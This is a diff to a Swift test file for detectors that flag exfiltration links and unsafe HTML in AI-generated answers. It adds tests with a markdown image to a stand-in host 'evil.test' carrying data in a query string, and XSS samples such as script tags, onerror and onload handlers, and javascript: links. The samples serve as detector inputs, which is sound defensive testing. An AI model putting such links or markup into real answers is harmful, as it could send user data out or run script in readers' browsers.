@@ -49,14 +49,41 @@ import Testing
         #expect(findings.map(\.severity) == [.critical, .medium, .medium])
     }
 
+    /// Brackets are matched once per answer, not once per link: a line of thousands of links
+    /// still tells the image at its end.
+    @Test func linkFormsOnALongLineOfLinks() {
+        let detector = ExfiltrationLinkDetector(allowedDomains: ["example.com"])
+        let line = String(repeating: "[a](http://a.test) ", count: 20_000) + "![i](http://evil.test/p.png?d=x) [b [c]](http://b.test)"
+        let findings = detector.detect(in: line)
+        #expect(findings.count == 20_002)
+        #expect(findings.suffix(2).map(\.evidence) == ["markdown image to evil.test with a query string", "markdown link to b.test"])
+        #expect(detector.detect(in: "![i\n](http://evil.test/)").map(\.evidence) == ["markdown link to evil.test"])
+    }
+
     @Test func unsafeMarkup() {
         let detector = UnsafeHTMLDetector()
-        for text in ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "<IFRAME src=//x>"] {
+        for text in [
+            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "<IFRAME src=//x>", "< embed src=x.swf>",
+            "<svg/onload=alert(1)>", "<a href=\"#\"\n   onMouseOver = \"steal()\">hi</a>", "<div srcdoc=\"<b>x</b>\"></div>", "Click <a href='JavaScript :void(0)'>",
+        ] {
             #expect(detector.detect(in: text).map(\.type) == [PolicyFindingType.unsafeHTML], "\(text)")
         }
-        for text in ["Use <b>bold</b> text", "one < two and three > two", "the onerror handler is documented"] {
+        for text in [
+            "Use <b>bold</b> text", "one < two and three > two", "the onerror handler is documented", "<b>bold</b> then onclick=go()",
+            "<scripts> are files", "myjavascript: notes", "<frames>", "a <b> on=1",
+        ] {
             #expect(detector.detect(in: text).isEmpty, "\(text)")
         }
+        let evidence = detector.detect(in: "text <img src=x onerror=alert(1)> more")
+        #expect(evidence.map(\.utf8Range) == [5..<24])
+    }
+
+    /// An answer is text that injected instructions can shape: unclosed tags by the thousand must
+    /// cost one pass, not one pass per tag.
+    @Test func unclosedTagsAreScannedOnce() {
+        let detector = UnsafeHTMLDetector()
+        #expect(detector.detect(in: String(repeating: "<a ", count: 50_000)).isEmpty)
+        #expect(detector.detect(in: String(repeating: "<a ", count: 50_000) + " onclick=x").count == 1)
     }
 
     @Test func outputEvaluationRunsTheConfiguredChecks() throws {
